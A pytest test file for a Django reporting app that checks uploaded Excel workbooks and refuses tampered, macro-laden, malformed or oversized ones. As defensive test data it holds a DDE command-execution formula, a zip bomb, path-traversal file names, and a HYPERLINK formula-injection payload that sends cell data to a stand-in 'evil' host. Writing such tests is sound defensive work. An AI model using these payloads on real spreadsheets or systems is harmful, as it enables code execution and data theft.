"""What no workbook may do: refused with a clear word, nothing saved, the file kept, an audit line written."""

from __future__ import annotations

import io
import re
import time
import zipfile

import openpyxl
import pytest

from diaodu.bureau.audit.models import Event
from diaodu.bureau.directory.permissions import Denied
from diaodu.bureau.reports import filing, workbook
from diaodu.bureau.reports.models import Attachment, Report
from diaodu.bureau.reports.workbook import seal
from diaodu.economy.errors import Refusal
from diaodu.economy.periods import span
from tests.bureau import reporting, workbooks
from tests.bureau.reporting import COUNTY, MONTH, NOW, OTHER, person
from tests.bureau.workbook.made import VISITS, changed, filled, issued, part, taken, values, with_parts

pytestmark = pytest.mark.django_db
TYPES, SHEET = "[Content_Types].xml", "xl/worksheets/sheet1.xml"


def refused(report: Report, content: bytes, said: str, name: str = "填报表.xlsx") -> str:
    """Refused, and nothing of it left but the file and the audit line (被拒)."""
    before = values(report)
    with pytest.raises(Refusal, match=said) as caught:
        taken(report, content, name=name)
    assert values(report) == before
    event = Event.objects.filter(verb="refused.upload").latest("pk")
    assert event.detail["reason"] == str(caught.value)
    assert event.detail["report"] == report.pk
    kept = Attachment.objects.latest("pk")
    assert bytes(kept.content) == content
    assert kept.outcome["refused"] == str(caught.value)
    return str(caught.value)


# 别的表


def test_another_units_form(one) -> None:
    theirs = filled(reporting.report(unit=OTHER), {f"tourist_visits:{OTHER}:level": 5.0})
    refused(one, theirs, "别的单位的表.*岩坪县人民政府")


def test_another_form_of_the_same_unit(one) -> None:
    estimate = reporting.report("county_estimate")
    refused(one, issued(estimate), "是另一张表，不是“县（市、区）部门数据月报”")


def test_another_months_form(one) -> None:
    reporting.rounds.issue(month=span(2026, 10, 10), by=reporting.Person.system(), now=NOW)
    october = Report.objects.get(form="county_month", unit__code=COUNTY, month=10)
    refused(october, issued(one), "2026年9月的表，现在填报的是2026年10月")


def test_another_weeks_form(one) -> None:
    weeks = list(
        Report.objects.of_month(MONTH).filter(form="county_week", unit__code=COUNTY).order_by("turn")
    )
    refused(weeks[1], issued(weeks[0]), f"第{weeks[0].turn}周的表")


def test_a_form_that_has_changed_since(one) -> None:
    old = issued(one)
    one.slots = one.slots[:-1]
    one.save()
    refused(one, old, "表式有调整.*重新下载")


def test_a_report_that_is_signed_already(one) -> None:
    content = filled(one, {VISITS: 5.0})
    reporting.signed(one, {slot.code: 10.0 for slot in one.asked})
    refused(one, content, "已签发.*不能办理")


def test_somebody_of_another_unit_may_not(one) -> None:
    with pytest.raises(Denied):
        taken(one, filled(one, {VISITS: 5.0}), by=person("filler", OTHER))
    with pytest.raises(Denied):
        taken(one, filled(one, {VISITS: 5.0}), by=person("reviewer", COUNTY))
    assert values(one) == {}
    assert not Attachment.objects.exists()


# 随表信息


def test_the_sealed_page_was_edited(one) -> None:
    def edit(book):
        cell = book[seal.PAGE]["A2"]
        cell.value = cell.value[:40] + ("A" if cell.value[40] != "A" else "B") + cell.value[41:]

    refused(one, changed(filled(one, {VISITS: 5.0}), edit), "随表信息被改动过，或不是本系统下发的表")


def test_one_workbooks_seal_in_another(one) -> None:
    """A seal holds for the form it names, whichever workbook it lies in."""
    theirs = issued(reporting.report(unit=OTHER))
    foreign = openpyxl.load_workbook(io.BytesIO(theirs))[seal.PAGE]["A2"].value

    def graft(book):
        book[seal.PAGE]["A2"] = foreign

    refused(one, changed(filled(one, {VISITS: 5.0}), graft), "别的单位的表")


def test_another_system_issued_it(one, settings) -> None:
    settings.SECRET_KEY = "another-city-" + "y" * 40
    theirs = filled(one, {VISITS: 5.0})
    settings.SECRET_KEY = "only-for-tests-" + "x" * 40
    refused(one, theirs, "不是本系统下发")


def test_the_sealed_page_is_gone(one) -> None:
    refused(
        one, changed(filled(one, {VISITS: 5.0}), lambda book: book.remove(book[seal.PAGE])), "缺少随表信息"
    )


def test_nothing_to_fill_in_is_left(one) -> None:
    def empty(book):
        book["填报表"].delete_rows(1, 60)

    refused(one, changed(issued(one), empty), "找不到填报的格")


def test_an_office_table_with_nothing_that_is_asked(one) -> None:
    rows = workbooks.long(("旅游接待人次", "石垭县", "2026年1—9月", "数值", 500, "万人次"))
    refused(one, workbooks.xlsx(rows), "没有.*要报的数：2026年1—9月石垭.*不在本表应报范围")


# 夹带


def macro(content: bytes) -> bytes:
    types = part(content, TYPES).replace(b".sheet.main+xml", b".sheet.macroEnabled.main+xml")
    return with_parts(content, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba", TYPES: types})


@pytest.mark.parametrize(
    ("parts", "said"),
    [
        ({"xl/vbaProject.bin": b"x"}, "里有宏"),
        ({"xl/VBAproject.BIN": b"x"}, "里有宏"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "里有宏"),
        ({"xl/activeX/activeX1.xml": b"<x/>"}, "里有控件"),
        ({"xl/embeddings/oleObject1.bin": b"x"}, "嵌入的文件"),
        ({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}, "对其他文件的链接"),
        ({"xl/connections.xml": b"<x/>"}, "外部数据连接"),
        ({"XL/Workbook.xml": b"<x/>"}, "重名的部件"),
        ({"docProps/core.xml": b"<!DOCTYPE a [<!ENTITY b 'cccc'>]><a>&b;</a>"}, "自定义的实体"),
        ({"docProps/core.xml": "<a/>".encode("utf-16")}, "不常见的编码"),
    ],
)
def test_what_a_workbook_may_not_bring_along(one, parts, said) -> None:
    refused(one, with_parts(filled(one, {VISITS: 5.0}), parts), said)


def test_a_macro_workbook_by_its_types_and_by_its_name(one) -> None:
    refused(one, macro(issued(one)), "里有宏")
    types = part(issued(one), TYPES).replace(b".sheet.main+xml", b".sheet.macroEnabled.main+xml")
    refused(one, with_parts(issued(one), {TYPES: types}), "里有宏")
    refused(one, filled(one, {VISITS: 5.0}), "里有宏", name="填报表.XLSM")


def test_an_old_workbook_with_macros(one) -> None:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "_VBA_PROJECT_CUR".encode("utf-16-le")
    refused(one, old, "里有宏", name="九月.xls")


def test_a_formula_that_calls_a_program(one) -> None:
    def dde(book):
        book["填报表"]["M40"] = "=cmd|' /C calc'!A0"

    refused(one, changed(filled(one, {VISITS: 5.0}), dde), "调用外部程序的公式")


def test_a_formula_that_calls_a_program_in_other_letters(one) -> None:
    content = filled(one, {VISITS: 5.0})
    hidden = b"<c r=\"M40\"><f>cmd&#124;' /C calc'!A0</f></c></row></sheetData>"
    sheet = part(content, SHEET).replace(b"</row></sheetData>", hidden)
    refused(one, with_parts(content, {SHEET: sheet}), "调用外部程序的公式")


@pytest.mark.parametrize(
    "slow",
    [
        b"<c r='A1'>" * 60_000 + b"<f>1</f>",
        b"<c " * 60_000,
        b"<row " * 60_000,
        b"<f>" + b"|" * 200_000 + b"</f>",
        b"<f " * 60_000,
    ],
    ids=["cells", "open cells", "rows", "bars", "formulas"],
)
def test_a_sheet_made_to_be_slow_is_read_like_any(one, slow) -> None:
    """In a comment no reader minds it; looked at twice for every piece it would take minutes."""
    content = filled(one, {VISITS: 5.0})
    sheet = part(content, SHEET).replace(b"</sheetData>", b"</sheetData><!-- hidden=" + slow + b"-->")
    started = time.process_time()
    taken(one, with_parts(content, {SHEET: sheet}))
    assert time.process_time() - started < 3
    assert values(one)[VISITS] == 5.0


def test_formulas_heaped_upon_one_another_are_no_workbook(one) -> None:
    content = filled(one, {VISITS: 5.0})
    heap = b"".join(
        b'<c r="Z%d"><f t="array" ref="A1:ZZ9999">1</f><v>1</v></c>' % n for n in range(50, 3_000)
    )
    sheet = part(content, SHEET).replace(b"</row></sheetData>", b"</row><row>" + heap + b"</row></sheetData>")
    started = time.process_time()
    refused(one, with_parts(content, {SHEET: sheet}), "已损坏")
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.xlsx", b"%PDF-1.7 ...", "PDF 文件"),
        ("a.xlsx", b"<html><table><tr><td>1</td></tr></table></html>", "网页"),
        ("a.xlsx", b"", "空文件"),
        ("a.xlsx", b"PK\x03\x04" + b"\x07" * 300, "已损坏"),
        ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
        ("a.xlsx", b"\x89PNG\r\n\x1a\n", "图片"),
    ],
)
def test_what_is_no_workbook(one, name, content, said) -> None:
    refused(one, content, said, name=name)


def test_a_zip_bomb(one) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/workbook.xml", b"<workbook/>")
        bomb.writestr("xl/worksheets/sheet1.xml", b"0" * (80 << 20))
    refused(one, out.getvalue(), "解压后过大")


def test_too_long_is_not_even_kept(one, settings) -> None:
    settings.UPLOAD_LIMIT_BYTES = 1 << 20
    with pytest.raises(Refusal, match="超过1兆的上限"):
        taken(one, b"PK\x03\x04" + b"x" * (1 << 20))
    assert not Attachment.objects.exists()
    assert Event.objects.filter(verb="refused.upload", detail__size=(1 << 20) + 4).count() == 1


def test_rows_without_end(one) -> None:
    def far(book):
        book["填报表"].cell(30_000, 3).value = 1

    refused(one, changed(filled(one, {VISITS: 5.0}), far), "30000行.*超出可读范围")


def test_two_cells_at_the_ends_of_the_sheet(one) -> None:
    """Whoever makes room for all between them is out of memory."""

    def far(book):
        book["填报表"]["XFD1048576"] = 1

    refused(one, changed(filled(one, {VISITS: 5.0}), far), "1048576行16384列.*超出可读范围")


# 名称和回显


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.xlsx", "passwd.xlsx"),
        ("C:\\Users\\a\\九月.xlsx", "九月.xlsx"),
        ("a\x00b\u202excod.xlsx", "abxcod.xlsx"),
        ("", "未命名"),
        ("长" * 300 + ".xlsx", "长" * 65 + ".xlsx"),
    ],
)
def test_path_tricks_in_the_name(one, given, kept) -> None:
    assert taken(one, filled(one, {VISITS: 5.0}), name=given).attachment.name == kept


def test_injected_text_comes_back_as_text(one) -> None:
    """What was typed is told in the list of problems, and never becomes a formula there."""
    planted = '=HYPERLINK("http://evil/?"&A1)'

    def act(book):
        cell = book["填报表"][workbook_cell(one)]
        cell.value = "+" + planted
        cell.data_type = "s"

    found = taken(one, changed(issued(one), act))
    _, copy = workbook.marked(found.attachment)
    listed = openpyxl.load_workbook(io.BytesIO(copy))["问题清单"]
    cells = [cell for row in listed.iter_rows() for cell in row]
    assert any(planted in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)


def workbook_cell(report) -> str:
    from tests.bureau.workbook.made import where

    return where(report, VISITS)[1]


def test_a_refused_file_has_no_marked_copy(one) -> None:
    refused(one, macro(issued(one)), "里有宏")
    with pytest.raises(Refusal, match="没有读取"):
        workbook.marked(Attachment.objects.latest("pk"))


def test_a_conflict_leaves_no_half_saved_report(one, monkeypatch) -> None:
    """If keeping the file fails, the numbers are not saved either."""

    def broken(**_):
        raise Refusal("不能保存")

    content = filled(one, {VISITS: 5.0})
    monkeypatch.setattr(workbook.taking, "_outcome", lambda *_: broken())
    with pytest.raises(Refusal):
        taken(one, content)
    assert values(one) == {}
    assert not re.search("saved", ",".join(Event.objects.values_list("verb", flat=True)))
    assert filing.missing(one, values(one))
